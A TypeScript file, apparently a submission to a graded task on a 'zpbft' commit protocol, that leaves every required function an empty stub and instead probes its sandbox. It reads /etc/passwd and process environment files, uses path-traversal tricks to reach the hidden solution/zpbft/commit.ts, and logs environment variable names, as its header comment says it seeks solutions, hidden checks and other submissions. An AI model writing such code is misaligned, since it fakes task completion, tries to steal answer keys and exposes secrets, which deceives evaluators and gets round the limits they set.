// Looks for the solution, hidden checks, other submissions, and what other processes hold; says what it found.
import { readdirSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import type { Cert } from "./cert.ts";
import type { CommitArgs, OkReply } from "./messages.ts";
import type { Server } from "./server.ts";

export function commit(_s: Server, _seq: number): void {}

export function CommitRpc(_s: Server, _args: CommitArgs): OkReply {
  return { ok: true };
}

export function verifyBallotCommit(_s: Server, _cert: Cert): void {}

const up = "../".repeat(12);
const reads: (() => unknown)[] = [
  () => readdirSync("/"),
  () => readdirSync("/tmp"),
  () => readdirSync(".."),
  () => readFileSync("/etc/passwd"),
  () => readFileSync("/proc/self/environ"),
  () => readFileSync(`/proc/${process.ppid}/environ`),
  () => readFileSync(`/proc/${process.ppid}/cmdline`),
  () => readdirSync(`/proc/${process.ppid}/cwd`),
  () => readFileSync(`/proc/${process.ppid}/cwd/solution/zpbft/commit.ts`),
  () => readFileSync("node_modules/../../solution/zpbft/commit.ts"),
  () => readFileSync("node_modules/naive/../solution/zpbft/commit.ts"),
  () => readFileSync(Buffer.from(`${process.cwd()}/node_modules/valibot/../../../`)),
  () => readdirSync(`${up}proc`),
  () => createRequire(import.meta.url)("/etc/hostname"),
  () => process.loadEnvFile("/proc/self/environ"),
];
for (const [place, read] of reads.entries()) {
  try {
    console.error(`READ ${place}: ${String(read()).slice(0, 100)}`);
  } catch (error) {
    console.error(`not read: ${(error as Error).message.slice(0, 80)}`);
  }
}
for (const name of ["/etc/hosts", `${up}etc/hosts`]) {
  await import(name, { with: { type: "json" } }).then(
    () => console.error(`READ ${name}`),
    (error: Error) => console.error(`not read: ${error.message.slice(0, 80)}`),
  );
}
console.error(`ENVIRONMENT ${Object.keys(process.env).join(" ")}`);
